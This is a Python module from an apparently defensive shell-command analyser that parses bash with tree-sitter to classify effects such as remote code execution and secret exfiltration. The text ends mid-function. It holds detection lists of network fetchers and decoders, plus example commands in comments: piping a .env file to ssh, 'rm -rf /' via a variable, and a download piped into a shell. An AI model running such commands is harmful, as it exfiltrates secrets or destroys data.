"""Shell source → the simple commands it would execute, and their effects.

The source is parsed with tree-sitter-bash (a real bash grammar, in C, error tolerant)
and walked: lists, pipelines, subshells, groups, if/for/while/case bodies, functions
(analysed where they are called), command and process substitutions, heredocs and
redirections. Words go through quote removal exactly as the shell does it; variables
assigned earlier in the same source are substituted; wrappers are peeled by
:mod:`ringfence.analyze.unwrap`, and ``-c`` strings, ``eval`` and shells fed by pipes
or heredocs are parsed again, recursively, up to a depth limit.

Whatever cannot be resolved statically is marked: a command word that stays unknown is
an ``opaque_exec`` effect; a download piped into a shell is ``code.remote_exec``.
Nothing is ever executed. Every bound (source size, node count, nesting, unwrap depth)
raises :class:`~ringfence.errors.AnalysisLimit`, which the gate turns into a deny.
"""

from __future__ import annotations

import contextlib
import functools
import os
import re
import shlex
import stat
from collections.abc import Iterator
from dataclasses import dataclass, field, replace
from typing import TYPE_CHECKING, Any

from ringfence.analyze import unwrap
from ringfence.analyze.command import Command, Redirect
from ringfence.analyze.context import Context
from ringfence.analyze.registry import classifiers_for, effect
from ringfence.errors import AnalysisLimit
from ringfence.model import Effect

if TYPE_CHECKING:
    from tree_sitter import Node, Parser

MAX_NODES = 200_000
MAX_NESTING = 200
MAX_COMMANDS = 5_000
MAX_SCRIPT_FILE_BYTES = 256 * 1024
# Report code that cannot be resolved inside a script file run directly (``./x.sh``) that
# was already on disk: see _Walker.direct_script.
DIRECT_SCRIPT_OPAQUE = False
UNKNOWN_CWD = "/(unknown-cwd)"

NETWORK_FETCHERS = frozenset({"curl", "wget", "fetch", "http", "https", "xh", "aria2c", "lwp-request", "GET"})
DECODERS = frozenset(
    {
        "base64",
        "base32",
        "xxd",
        "openssl",
        "gunzip",
        "zcat",
        "bzcat",
        "xzcat",
        "unxz",
        "rev",
        "tr",
        "uudecode",
        "gpg",
        "perl",
        "python",
        "python3",
        "node",
        "ruby",
        "awk",
        "sed",
    }
)
PASS_THROUGH = frozenset({"cat", "tee", "head", "tail", "sort", "uniq", "grep", "dd", "pv"})
# commands whose output carries (a transformation of) their input: a secret piped into
# them is still in what they print
SECRET_PASS_THROUGH = frozenset(
    {
        *PASS_THROUGH,
        *DECODERS,
        "tac",
        "egrep",
        "fgrep",
        "rg",
        "cut",
        "gawk",
        "mawk",
        "jq",
        "yq",
        "basenc",
        "od",
        "hexdump",
        "gzip",
        "bzip2",
        "xz",
        "zstd",
        "lz4",
        "brotli",
        "gpg2",
        "age",
        "fold",
        "fmt",
        "column",
        "iconv",
        "strings",
        "nl",
        "paste",
        "expand",
        "unexpand",
        "uuencode",
        "envsubst",
        "sponge",
        "stdbuf",
        "cat",
    }
)
DYNAMIC_MARK = "\x00dyn\x00"

_parser: Parser | None = None

# tree-sitter-bash's scanner passes the lookahead code point to isalpha()/isdigit(), which
# is undefined (and crashes) past U+00FF. Every such character is an ordinary word
# character to bash, so the parser is given ASCII letters of the same UTF-8 length in its
# place (see _parser_bytes) and node text is read from the original bytes. Lone
# surrogates (other than the U+DC80-U+DCFF that stand for undecodable bytes) cannot be
# encoded at all: they become U+00BF, in the analysed text too.
_PARSER_UNSAFE = re.compile("[^\x00-\xff\udc80-\udcff]")
_LONE_SURROGATE = re.compile("[\ud800-\udc7f\udd00-\udfff]")


def _get_parser() -> Parser:
    global _parser
    if _parser is None:
        import tree_sitter
        import tree_sitter_bash

        _parser = tree_sitter.Parser(tree_sitter.Language(tree_sitter_bash.language()))
    return _parser


# -- values flowing through the walk ----------------------------------------------------------


@dataclass(frozen=True, slots=True)
class Word:
    """A word after expansion: its value and whether it is statically known."""

    value: str
    dynamic: bool = False
    net: bool = False  # its value comes from a network download
    feed: Feed | None = None  # for process substitutions: what the inner command prints


@dataclass(frozen=True, slots=True)
class Feed:
    """What flows into a command's standard input (or out of a process substitution)."""

    text: str | None  # known content, or None
    source: str  # heredoc | herestring | echo | file | net | decoded | unknown
    producers: tuple[str, ...] = ()
    secret_sources: tuple[str, ...] = ()  # secrets files whose content flows in (``cat .env | …``)


@dataclass(slots=True)
class Scope:
    vars: dict[str, str | None] = field(default_factory=dict)
    cwd: str = ""
    functions: dict[str, tuple[Node, bytes]] = field(default_factory=dict)  # name -> (body, its source)
    aliases: dict[str, str] = field(default_factory=dict)

    def copy(self) -> Scope:
        return Scope(dict(self.vars), self.cwd, dict(self.functions), dict(self.aliases))


@dataclass(slots=True)
class Trace:
    """Everything one analysis found: the commands and their effects, in order."""

    commands: list[Command] = field(default_factory=list)
    effects: list[Effect] = field(default_factory=list)


# -- the walker ---------------------------------------------------------------------------------


class _Walker:
    def __init__(self, ctx: Context, trace: Trace) -> None:
        self.ctx = ctx
        self.trace = trace
        self.nodes = 0
        self.call_stack: list[tuple[str, int]] = []
        # files this source writes before it may run them: (remote, path) -> content or None
        self.written: dict[tuple[str | None, str], str | None] = {}
        self.downloaded: set[tuple[str | None, str]] = set()  # ... written from a network download
        self.scripts: list[tuple[str, int]] = []  # script files being analysed: (path, hash of content)
        self.quiet = 0  # > 0: inside a script run directly, where unresolved code is not reported

    # entry points

    def walk_source(
        self,
        source: str,
        scope: Scope,
        via: tuple[str, ...],
        remote: str | None,
        depth: int,
        stdin: Feed | None = None,
    ) -> None:
        if depth > self.ctx.config.max_unwrap_depth:
            raise AnalysisLimit(f"commands nested more than {self.ctx.config.max_unwrap_depth} levels deep")
        data, parsed = _parser_bytes(source)
        if len(data) > self.ctx.config.max_command_bytes:
            raise AnalysisLimit(
                f"command is {len(data)} bytes; the analysis limit is {self.ctx.config.max_command_bytes}"
            )
        placeholders = parsed is not data
        tree, data = _blank_misparsed_keywords(data, parsed, _get_parser().parse(parsed))
        if placeholders and b"<<" in parsed:
            _check_heredoc_delimiters(tree, data)
        root = tree.root_node
        st = _State(scope, via, remote, depth, stdin, data)
        self.stmt(root, st, 0)
        if root.has_error:
            self._fallback(source, st)

    def _fallback(self, source: str, st: _State) -> None:
        """Where the grammar found an error, also read the text as plain words.

        Bash itself runs every complete line before a syntax error, so every
        line is also split into commands with shlex and classified. If even that fails,
        the action cannot be understood: ``analysis.error``. Backtick substitutions (which
        shlex cannot see into) are analysed on their own, after bash's backslash pass.
        """
        for m in _BACKTICKS.finditer(source):
            inner = _unescape_backticks(m.group(1))
            if inner.strip():
                self.walk_source(inner, st.scope.copy(), st.via, st.remote, st.depth + 1, st.stdin)
        for line in source.splitlines():
            try:
                lexer = shlex.shlex(line, posix=True, punctuation_chars=";&|()<>")
                lexer.whitespace_split = True
                lexer.commenters = "#"
                tokens = list(lexer)
            except ValueError:
                if not self.quiet:
                    self.trace.effects.append(
                        Effect("analysis.error", {"reason": "unbalanced quotes"}, evidence=line[:200], via=st.via)
                    )
                continue
            argv: list[str] = []
            for tok in [*tokens, ";"]:
                if tok and all(c in ";&|()<>" for c in tok):
                    if argv:
                        self.run([Word(a) for a in argv], st, text=line)
                    argv = []
                else:
                    argv.append(tok)

    # statements

    def tick(self, level: int) -> None:
        self.nodes += 1
        if self.nodes > MAX_NODES:
            raise AnalysisLimit(f"command has more than {MAX_NODES} syntax nodes")
        if level > MAX_NESTING:
            raise AnalysisLimit(f"command nests more than {MAX_NESTING} levels deep")

    def stmt(self, node: Node, st: _State, level: int) -> None:
        self.tick(level)
        t = node.type
        if t == "command":
            self.command(node, st, level, None, ())
        elif t == "pipeline":
            self.pipeline(list(node.named_children), st, level, None)
        elif t == "redirected_statement":
            self.redirected(node, st, level)
        elif t == "variable_assignment":
            self.assign(node, st, level)
        elif t == "declaration_command":
            self.declaration(node, st, level)
        elif t == "unset_command":
            args = [w for c in node.named_children if c.type != "comment" for w in self.fields(c, st, level + 1)]
            for w in args:
                st.scope.vars.pop(w.value, None)
            self.run([Word("unset"), *args], st, text=_text(node, st.src))
        elif t == "function_definition":
            name_node = node.child_by_field_name("name")
            body = node.child_by_field_name("body")
            if name_node is not None and body is not None:
                st.scope.functions[_text(name_node, st.src)] = (body, st.src)
        elif t == "subshell":
            inner = replace(st, scope=st.scope.copy())
            for c in node.named_children:
                self.stmt(c, inner, level + 1)
        elif t in ("comment", "heredoc_body", "heredoc_start", "heredoc_end"):
            return
        elif t == "test_command":
            for c in node.named_children:
                self.expr_substitutions(c, st, level + 1)
        elif t in ("for_statement", "select_statement"):
            var = node.child_by_field_name("variable")
            if var is not None:
                st.scope.vars[_text(var, st.src)] = None
            for c in node.named_children:
                if c.type in ("do_group",):
                    self.stmt(c, st, level + 1)
                elif c.type not in ("variable_name",):
                    self.expr_substitutions(c, st, level + 1)
        elif t in ("c_style_for_statement",):
            for c in node.named_children:
                if c.type == "do_group" or c.type == "compound_statement":
                    self.stmt(c, st, level + 1)
                else:
                    self.expr_substitutions(c, st, level + 1)
        elif t == "case_statement":
            for c in node.named_children:
                if c.type == "case_item":
                    for cc in c.named_children:
                        if cc.type not in (
                            "word",
                            "extglob_pattern",
                            "concatenation",
                            "string",
                            "raw_string",
                        ):
                            self.stmt(cc, st, level + 1)
                else:
                    self.expr_substitutions(c, st, level + 1)
        elif t in ("negated_command", "ERROR"):
            for c in node.named_children:
                self.stmt(c, st, level + 1)
        elif t in (
            "word",
            "string",
            "raw_string",
            "concatenation",
            "number",
            "simple_expansion",
            "expansion",
            "command_substitution",
            "process_substitution",
            "arithmetic_expansion",
            "ansi_c_string",
        ):
            # a bare expression (e.g. inside an ERROR node): run its substitutions
            self.expr_substitutions(node, st, level + 1)
        elif t == "list":
            # `a && b && c …` parses as a left-leaning chain of binary lists: walk the
            # spine iteratively so a long chain is not mistaken for deep nesting.
            spine: list[Node] = []
            cur: Node | None = node
            while cur is not None and cur.type == "list":
                kids = cur.named_children
                spine.extend(reversed(kids[1:]))
                cur = kids[0] if kids else None
            if cur is not None:
                spine.append(cur)
            for c in reversed(spine):
                self.stmt(c, st, level + 1)
        else:
            # program, compound_statement, do_group, if/elif/else, while, ...
            for c in node.named_children:
                self.stmt(c, st, level + 1)

    def expr_substitutions(self, node: Node, st: _State, level: int) -> None:
        """Execute the command/process substitutions inside an expression."""
        self.tick(level)
        if node.type in ("command_substitution", "process_substitution"):
            self.substitution(node, st, level)
            return
        for c in node.named_children:
            self.expr_substitutions(c, st, level + 1)

    def assign(self, node: Node, st: _State, level: int) -> None:
        name_node = node.child_by_field_name("name")
        value_node = node.child_by_field_name("value")
        name = _text(name_node, st.src) if name_node is not None else ""
        if value_node is None:
            st.scope.vars[name] = ""
            return
        w = self.word(value_node, st, level + 1)
        st.scope.vars[name] = None if w.dynamic else w.value
        if name.startswith("RINGFENCE_") or name in ("PATH",):
            self.run([Word("export"), Word(f"{name}={w.value}")], st, text=_text(node, st.src))

    def declaration(self, node: Node, st: _State, level: int) -> None:
        keyword = node.children[0].type if node.children else "declare"
        words: list[Word] = [Word(keyword)]
        for c in node.named_children:
            if c.type == "variable_assignment":
                self.assign(c, st, level + 1)
                name_node = c.child_by_field_name("name")
                name = _text(name_node, st.src) if name_node is not None else ""
                value = st.scope.vars.get(name)
                words.append(Word(f"{name}={value if value is not None else ''}", value is None))
            elif c.type == "variable_name":
                words.append(Word(_text(c, st.src)))
            else:
                words.extend(self.fields(c, st, level + 1))
        self.run(words, st, text=_text(node, st.src))

    def redirected(self, node: Node, st: _State, level: int) -> None:
        body = node.child_by_field_name("body")
        redirects: list[Node] = [c for c in node.named_children if c is not body]
        # A heredoc's node may carry the rest of the pipeline (`cat <<EOF | sh`) or list
        # (`cat <<EOF && x`) that follows it on the same line: run those after the body.
        following: list[tuple[str, Node]] = []
        flat: list[Node] = []
        for r in redirects:
            flat.append(r)
            if r.type == "heredoc_redirect":
                for i, c in enumerate(r.children):
                    fname = r.field_name_for_child(i)
                    if c.type == "pipeline" and fname is None:
                        following.append(("pipe", c))
                    elif fname == "right":
                        following.append(("list", c))
                    elif c.type == "file_redirect":
                        flat.append(c)
        if body is None:
            return
        pipe_rest = [c for kind, c in following if kind == "pipe"]
        if body.type == "command" and pipe_rest:
            stages: list[Node] = [body]
            for p in pipe_rest:
                stages.extend(x for x in p.named_children if x.type != "heredoc_body")
            self.pipeline(stages, st, level + 1, None, first_redirects=flat)
        elif body.type == "command":
            self.command(body, st, level + 1, None, flat)
        elif body.type == "pipeline":
            stages = list(body.named_children)
            self.pipeline(stages, st, level + 1, None, last_redirects=flat)
        elif body.type in ("list", "negated_command"):
            self.redirect_last(body, flat, st, level + 1)
        else:
            self.compound_with_redirects(body, flat, st, level + 1)
        for kind, c in following:
            if kind == "list":
                self.stmt(c, st, level + 1)

    def redirect_last(self, node: Node, redirects: list[Node], st: _State, level: int) -> None:
        """Redirections that bash gives to the last command of a list or to a negated command.

        tree-sitter-bash lifts a heredoc written after ``a && sh`` or ``! sh`` to the whole
        statement; bash binds it to ``sh``.
        """
        self.tick(level)
        if node.type == "command":
            self.command(node, st, level + 1, None, redirects)
        elif node.type == "pipeline":
            self.pipeline(list(node.named_children), st, level + 1, None, last_redirects=redirects)
        elif node.type in ("list", "negated_command") and node.named_children:
            kids = node.named_children
            for c in kids[:-1]:
                self.stmt(c, st, level + 1)
            self.redirect_last(kids[-1], redirects, st, level + 1)
        else:
            self.compound_with_redirects(node, redirects, st, level + 1)

    def compound_with_redirects(self, body: Node, redirects: list[Node], st: _State, level: int) -> None:
        """A compound command with redirections: its commands read the redirected input."""
        reds, stdin, _ = self.redirect_values(redirects, st, level)
        self.stmt(body, st if stdin is None else replace(st, stdin=stdin), level)
        self.apply_redirects(reds, st, Word(_text(body, st.src)))

    def apply_redirects(self, reds: list[Redirect], st: _State, owner: Word) -> None:
        """Redirections on a compound statement: classify their targets."""
        if reds:
            cmd = Command(
                argv=(":",),
                text=owner.value,
                via=st.via,
                redirects=tuple(reds),
                cwd=st.scope.cwd,
                remote=st.remote,
            )
            self.redirect_effects(cmd)

    def pipeline(
        self,
        stages: list[Node],
        st: _State,
        level: int,
        feed: Feed | None,
        *,
        first_redirects: list[Node] | None = None,
        last_redirects: list[Node] | None = None,
    ) -> None:
        producers: tuple[str, ...] = ()
        # every stage of a pipeline runs in a subshell: assignments do not leak
        for i, stage in enumerate(stages):
            extra = list(first_redirects or []) if i == 0 else []
            if i == len(stages) - 1 and last_redirects:
                extra.extend(last_redirects)
            stage_st = st if len(stages) == 1 else replace(st, scope=st.scope.copy())
            if stage.type == "command":
                feed = self.command(stage, stage_st, level + 1, feed, extra, producers)
            elif stage.type == "redirected_statement" and stage.child_by_field_name("body") is not None:
                body = stage.child_by_field_name("body")
                assert body is not None
                reds = [c for c in stage.named_children if c is not body]
                if body.type == "command":
                    feed = self.command(body, stage_st, level + 1, feed, reds + extra, producers)
                else:
                    self.stmt(stage, stage_st if feed is None else replace(stage_st, stdin=feed), level + 1)
                    feed = Feed(None, "unknown")
            else:
                # `… | (cmd)`, `… | { a; b; }`, `… | while read …`: the input reaches the commands inside
                self.stmt(stage, stage_st if feed is None else replace(stage_st, stdin=feed), level + 1)
                feed = Feed(None, "unknown")
            name = _stage_name(stage, st.src)
            producers = (*producers, name) if name else producers

    def command(
        self,
        node: Node,
        st: _State,
        level: int,
        feed: Feed | None,
        redirect_nodes: list[Node] | tuple[Node, ...],
        producers: tuple[str, ...] = (),
    ) -> Feed:
        self.tick(level)
        words: list[Word] = []
        env: dict[str, str] = {}
        own_redirects: list[Node] = list(redirect_nodes)
        for i, c in enumerate(node.children):
            fname = node.field_name_for_child(i)
            if c.type == "variable_assignment":
                name_node = c.child_by_field_name("name")
                value_node = c.child_by_field_name("value")
                value = self.word(value_node, st, level + 1) if value_node is not None else Word("")
                if name_node is not None:
                    env[_text(name_node, st.src)] = value.value
            elif c.type in ("file_redirect", "heredoc_redirect", "herestring_redirect"):
                own_redirects.append(c)
            elif c.type == "command_name":
                for cc in c.named_children:
                    words.extend(self.fields(cc, st, level + 1))
            elif fname == "argument" or c.is_named:
                if c.type == "comment":
                    continue
                words.extend(self.fields(c, st, level + 1))
        if words and own_redirects:
            self.lost_dash(node, own_redirects, words, st)
        reds, stdin_feed, input_files = self.redirect_values(own_redirects, st, level, words)
        if stdin_feed is not None:
            feed = stdin_feed
        elif feed is None and st.stdin is not None:
            feed = st.stdin  # inside a compound command, a function or a -c script fed by input
        if feed is not None and producers and feed.producers == ():
            feed = replace(feed, producers=producers)
        if not words:
            if env:
                for k, v in env.items():
                    st.scope.vars[k] = v
                if any(k.startswith("RINGFENCE_") for k in env):
                    self.run(
                        [Word("export"), *(Word(f"{k}={v}") for k, v in env.items())], st, text=_text(node, st.src)
                    )
            if reds:
                self.redirect_effects(
                    Command(
                        argv=(":",),
                        text=_text(node, st.src),
                        via=st.via,
                        redirects=tuple(reds),
                        cwd=st.scope.cwd,
                        remote=st.remote,
                    )
                )
            return Feed(None, "unknown")
        return self.run(
            words, st, text=_text(node, st.src), env=env, redirects=reds, feed=feed, input_files=input_files
        )

    @staticmethod
    def lost_dash(node: Node, redirects: list[Node], words: list[Word], st: _State) -> None:
        """tree-sitter-bash drops a bare ``-`` written just before a heredoc (``make -f - <<EOF``,
        ``kubectl apply -f - <<EOF``, ``python - <<EOF``): put it back."""
        for r in redirects:
            if r.type == "heredoc_redirect" and r.start_byte > node.end_byte:
                if st.src[node.end_byte : r.start_byte].strip() == b"-":
                    words.append(Word("-"))
                return

    def redirect_values(
        self,
        nodes: list[Node] | tuple[Node, ...],
        st: _State,
        level: int,
        extra_args: list[Word] | None = None,
    ) -> tuple[list[Redirect], Feed | None, list[Word]]:
        """The redirections, the input they feed, and the files read.

        tree-sitter-bash reads the words after a redirection's target (``cmd > out a b``,
        ``cmd <<EOF a``) as more targets; bash reads them as arguments: they are appended
        to ``extra_args``.
        """
        reds: list[Redirect] = []
        feed: Feed | None = None
        inputs: list[Word] = []
        for r in nodes:
            if r.type == "file_redirect":
                op = ""
                fd: int | None = None
                dest: Word | None = None
                for i, c in enumerate(r.children):
                    fname = r.field_name_for_child(i)
                    if fname == "descriptor":
                        try:
                            fd = int(_text(c, st.src))
                        except ValueError:
                            fd = None
                    elif fname == "destination" and dest is None:
                        dest = self.word(c, st, level + 1)
                    elif fname == "destination":
                        words = self.fields(c, st, level + 1)
                        if extra_args is not None:
                            extra_args.extend(words)
                    elif not c.is_named:
                        op = _text(c, st.src)
                if dest is None:
                    continue
                if op in ("<", "<&", "<>") and not dest.value.isdigit():
                    inputs.append(dest)
                    feed = dest.feed if dest.feed is not None else Feed(self.read_file(dest), "file")
                    secret = self.secret_file(dest, st.scope.cwd)
                    if secret is not None:
                        feed = replace(feed, secret_sources=(secret,))
                if (op.endswith("&") and dest.value.isdigit()) or dest.value == "-":
                    continue  # 2>&1, >&2
                reds.append(Redirect(op, DYNAMIC_MARK if dest.dynamic else dest.value, fd))
            elif r.type == "heredoc_redirect":
                body = next((c for c in r.children if c.type == "heredoc_body"), None)
                start = next((c for c in r.children if c.type == "heredoc_start"), None)
                quoted = start is not None and any(q in _text(start, st.src) for q in ("'", '"', "\\"))
                text = _text(body, st.src) if body is not None else ""
                for i, c in enumerate(r.children):
                    if r.field_name_for_child(i) == "argument" and extra_args is not None:
                        extra_args.extend(self.fields(c, st, level + 1))
                if body is not None and not quoted:
                    for c in body.named_children:
                        self.expr_substitutions(c, st, level + 1)
                feed = Feed(text, "heredoc")
            elif r.type == "herestring_redirect":
                val = next((c for c in r.named_children), None)
                if val is not None:
                    w = self.word(val, st, level + 1)
                    feed = Feed(None if w.dynamic else w.value + "\n", "net" if w.net else "herestring")
        return reds, feed, inputs

    def secret_file(self, w: Word, cwd: str) -> str | None:
        """The absolute path ``w`` names, when it is a secrets file."""
        if w.dynamic or cwd == UNKNOWN_CWD:
            return None
        from ringfence.analyze import files

        path = self.ctx.resolve(w.value, cwd or None)
        return path if files.is_secret_path(path, self.ctx) else None

    def read_file(self, w: Word, cwd: str | None = None) -> str | None:
        """Read a file the command reads (never runs it), bounded in size."""
        if w.dynamic:
            return None
        path = self.ctx.resolve(w.value, cwd or None)
        self.ctx.fs_reads += 1
        try:
            # regular files only: a FIFO, /dev/stdin or a device would block the hook
            if not stat.S_ISREG(os.stat(path).st_mode):
                return None
            with open(path, "rb") as fh:
                data = fh.read(MAX_SCRIPT_FILE_BYTES + 1)
        except (OSError, ValueError):  # ValueError: a NUL byte in the path
            return None
        if len(data) > MAX_SCRIPT_FILE_BYTES:
            return None
        return data.decode("utf-8", "replace")

    # words

    def fields(self, node: Node, st: _State, level: int) -> list[Word]:
        """The words one shell word becomes after field splitting.

        An unquoted expansion whose value is known is split on IFS (default space, tab,
        newline) as bash does: ``c="rm -rf /"; $c`` runs ``rm`` with ``-rf`` and ``/``, and
        ``rm${IFS}-rf`` is two words. Unknown values stay one (dynamic) word.
        """
        kids = node.children if node.type == "concatenation" else [node]
        if not any(k.type in _SPLIT_NODES for k in kids):
            return [self.word(node, st, level)]
        known_ifs = "IFS" in st.scope.vars
        ifs = st.scope.vars["IFS"] if known_ifs else DEFAULT_IFS
        fields: list[list[Word]] = [[]]
        for c in kids:
            if not (c.is_named or c.type != '"'):
                continue
            if _is_ifs(c) and not known_ifs:
                fields.append([])
                continue
            w = self.word(c, st, level + 1)
            if c.type in _SPLIT_NODES and ifs and not w.dynamic and w.feed is None and w.value:
                _split_fields(fields, w, ifs)
            else:
                fields[-1].append(w)
        return [_join(f) for f in fields if f]

    def word(self, node: Node, st: _State, level: int) -> Word:
        self.tick(level)
        t = node.type
        if t in ("word", "number", "variable_name", "extglob_pattern", "regex", "special_variable_name"):
            return Word(_unescape_word(_text(node, st.src)))
        if t == "raw_string":
            return Word(_text(node, st.src)[1:-1])
        if t == "ansi_c_string":
            return Word(_ansi_c(_text(node, st.src)[2:-1]))
        if t in ("string", "translated_string"):
            return self.dq_string(node, st, level)
        if t == "concatenation":
            parts = [self.word(c, st, level + 1) for c in node.children if c.is_named or c.type != '"']
            return _join(parts)
        if t == "simple_expansion":
            name = _text(node, st.src)[1:]
            return self.lookup(name, st)
        if t == "expansion":
            return self.expansion(node, st, level)
        if t in ("command_substitution", "process_substitution"):
            return self.substitution(node, st, level)
        if t == "arithmetic_expansion":
            self.expr_substitutions(node, st, level + 1)
            return Word(_text(node, st.src), dynamic=True)
        if t == "brace_expression":
            return Word(_text(node, st.src))
        if t == "array":
            for c in node.named_children:
                self.word(c, st, level + 1)
            return Word(_text(node, st.src), dynamic=True)
        # unknown node types: run substitutions, keep the text
        self.expr_substitutions(node, st, level + 1)
        return Word(_text(node, st.src), dynamic=node.named_child_count > 0)

    def dq_string(self, node: Node, st: _State, level: int) -> Word:
        parts: list[Word] = []
        base = node.start_byte
        raw = st.src[base : node.end_byte]
        pos = base + (2 if raw.startswith(b'$"') else 1)
        end = node.end_byte - 1
        for c in node.named_children:
            if c.start_byte > pos:
                parts.append(Word(_unescape_dq(raw[pos - base : c.start_byte - base].decode("utf-8", "replace"))))
            if c.type == "string_content":
                parts.append(Word(_unescape_dq(_text(c, st.src))))
            else:
                parts.append(self.word(c, st, level + 1))
            pos = c.end_byte
        if end > pos:
            parts.append(Word(_unescape_dq(raw[pos - base : end - base].decode("utf-8", "replace"))))
        return _join(parts) if parts else Word("")

    def lookup(self, name: str, st: _State) -> Word:
        if name in ("HOME",):
            return Word(self.ctx.home)
        if name == "PWD":
            return Word(st.scope.cwd)
        if name in st.scope.vars:
            v = st.scope.vars[name]
            return Word("$" + name, dynamic=True) if v is None else Word(v)
        return Word("$" + name, dynamic=True)

    def expansion(self, node: Node, st: _State, level: int) -> Word:
        inner = _text(node, st.src)[2:-1]
        name = ""
        for ch in inner:
            if ch.isalnum() or ch == "_":
                name += ch
            else:
                break
        for c in node.named_children:
            if c.type not in ("variable_name", "special_variable_name"):
                self.expr_substitutions(c, st, level + 1)
        if name and inner == name:
            return self.lookup(name, st)
        if (
            name
            and name in st.scope.vars
            and st.scope.vars[name] not in (None, "")
            and inner[len(name) :][:2] in (":-", ":=")
        ):
            return self.lookup(name, st)
        if name and inner[len(name) :][:2] in (":-", ":=") and name not in st.scope.vars:
            # ${X:-default}: X unknown, so the default may apply; still dynamic
            return Word(inner[len(name) + 2 :], dynamic=True)
        return Word(_text(node, st.src), dynamic=True)

    def substitution(self, node: Node, st: _State, level: int) -> Word:
        """Run a ``$(…)``/backtick/``<(…)`` substitution; return its static value if known."""
        inner_st = replace(st, scope=st.scope.copy())
        body = [c for c in node.named_children]
        start_cmds = len(self.trace.commands)
        unescaped = _backtick_source(node, st.src)
        if unescaped is not None:
            self.walk_source(unescaped, inner_st.scope, st.via, st.remote, st.depth + 1, st.stdin)
        else:
            for c in body:
                self.stmt(c, inner_st, level + 1)
        ran = self.trace.commands[start_cmds:]
        net = any(c.name in NETWORK_FETCHERS for c in ran)
        value = _static_output(ran, self.ctx, st.scope.cwd)
        if node.type == "process_substitution":
            if net:
                feed = Feed(None, "net")
            elif value is not None:
                feed = Feed(value, "echo")
            elif any(c.name in DECODERS for c in ran):
                feed = Feed(None, "decoded")
            else:
                feed = Feed(None, "unknown")
            return Word("/dev/fd/63", dynamic=True, net=net, feed=feed)
        if value is not None:
            return Word(value.rstrip("\n"), net=net)
        return Word(_text(node, st.src), dynamic=True, net=net)

    # running a command -------------------------------------------------------------------

    def run(
        self,
        words: list[Word],
        st: _State,
        *,
        text: str,
        env: dict[str, str] | None = None,
        redirects: list[Redirect] | None = None,
        feed: Feed | None = None,
        input_files: list[Word] | None = None,
    ) -> Feed:
        env = dict(env or {})
        via = st.via
        remote = st.remote
        cwd = st.scope.cwd
        argv = [w.value for w in words]
        dynamic = {i for i, w in enumerate(words) if w.dynamic}
        networds = {i for i, w in enumerate(words) if w.net}
        feeds = {i: w.feed for i, w in enumerate(words) if w.feed is not None}
        if len(self.trace.commands) > MAX_COMMANDS:
            raise AnalysisLimit(f"command expands to more than {MAX_COMMANDS} commands")
        for _ in range(self.ctx.config.max_unwrap_depth + 1):
            if not argv:
                return Feed(None, "unknown")
            if 0 in dynamic:
                return self.opaque(
                    argv,
                    dynamic,
                    st,
                    via,
                    remote,
                    cwd,
                    text,
                    "the program name is not known until run time",
                    net=0 in networds,
                )
            name = argv[0].rsplit("/", 1)[-1]
            if argv[0] in st.scope.aliases and "/" not in argv[0]:
                expanded = _safe_split(st.scope.aliases[argv[0]])
                argv = expanded + argv[1:]
                dynamic = {i + len(expanded) - 1 for i in dynamic}
                via = (*via, f"alias {name}")
                continue
            if argv[0] in st.scope.functions and "/" not in argv[0]:
                fn_body, fn_src = st.scope.functions[argv[0]]
                frame = (argv[0], fn_body.id)
                if frame in self.call_stack or len(self.call_stack) > 32:
                    return Feed(None, "unknown")  # recursion: its body was already analysed
                self.call_stack.append(frame)
                try:
                    fn_st = replace(st, via=(*via, f"function {argv[0]}"), stdin=feed or st.stdin, src=fn_src)
                    self.stmt(fn_body, fn_st, 0)
                finally:
                    self.call_stack.pop()
                return Feed(None, "unknown")
            if name == "cd" or name == "pushd":
                self.change_dir(argv, dynamic, st)
            elif name == "alias":
                for a in argv[1:]:
                    if "=" in a:
                        k, v = a.split("=", 1)
                        st.scope.aliases[k] = v
            peeled = unwrap.peel(argv)
            if peeled is None:
                break
            if isinstance(peeled, unwrap.Inner):
                offset = len(argv) - len(peeled.argv)
                suffix = tuple(argv[offset:]) == peeled.argv
                if suffix:
                    dynamic = {i - offset for i in dynamic if i >= offset} | set(peeled.dynamic)
                    networds = {i - offset for i in networds if i >= offset}
                    feeds = {i - offset: f for i, f in feeds.items() if i >= offset}
                else:
                    dyn_values = {argv[i] for i in dynamic}
                    dynamic = set(peeled.dynamic) | {k for k, w in enumerate(peeled.argv) if w in dyn_values}
                    networds, feeds = set(), {}
                if peeled.unset:
                    self.emit(("unset", *peeled.unset), set(), st, via, remote, cwd, text, {}, [], None)
                if peeled.env:
                    env.update(dict(peeled.env))
                    if any(k.startswith("RINGFENCE_") for k, _ in peeled.env):
                        self.emit(
                            ("export", *(f"{k}={v}" for k, v in peeled.env)),
                            set(),
                            st,
                            via,
                            remote,
                            cwd,
                            text,
                            {},
                            [],
                            None,
                        )
                if peeled.cwd is not None:
                    cwd = self.ctx.resolve(peeled.cwd, cwd)
                if peeled.remote is not None:
                    remote = peeled.remote
                argv = list(peeled.argv)
                via = (*via, peeled.label)
                continue
            if isinstance(peeled, unwrap.Script):
                if peeled.label == "eval" and st.depth + _eval_chain(argv) > self.ctx.config.max_unwrap_depth:
                    # `eval eval eval … cmd`: each level would re-parse the whole rest
                    raise AnalysisLimit(f"commands nested more than {self.ctx.config.max_unwrap_depth} levels deep")
                script_index = argv.index(peeled.source) if peeled.source in argv else -1
                is_dyn = (
                    peeled.dynamic
                    or script_index in dynamic
                    or (peeled.label in ("eval", "ssh", "watch", "parallel", "sudo -s") and bool(dynamic))
                )
                if is_dyn:
                    is_net = script_index in networds or bool(networds)
                    return self.opaque(
                        argv,
                        dynamic,
                        st,
                        (*via, peeled.label),
                        remote,
                        cwd,
                        text,
                        f"{peeled.label} runs a string that is not known until run time",
                        net=is_net,
                    )
                if peeled.label == "ssh" and feed is not None and feed.secret_sources and "-n" not in argv:
                    # `cat .env | ssh host 'cat > x'`: ssh sends its input to the host
                    ssh = Command(
                        argv=tuple(argv), text=text[:2000], via=via, cwd=cwd, remote=remote, stdin_from=feed.producers
                    )
                    self.exfil(ssh, feed.secret_sources, peeled.remote or "ssh", [])
                sub = replace(
                    st,
                    via=(*via, peeled.label),
                    remote=peeled.remote or remote,
                    scope=Scope(dict(st.scope.vars), cwd, dict(st.scope.functions), dict(st.scope.aliases)),
                )
                self.walk_source(peeled.source, sub.scope, sub.via, sub.remote, st.depth + 1, feed or st.stdin)
                return Feed(None, "unknown")
            if isinstance(peeled, unwrap.ShellStdin):
                return self.shell_stdin(
                    argv, dynamic, st, (*via, peeled.label), remote, cwd, text, feed, input_files or []
                )
            if isinstance(peeled, unwrap.ScriptFile):
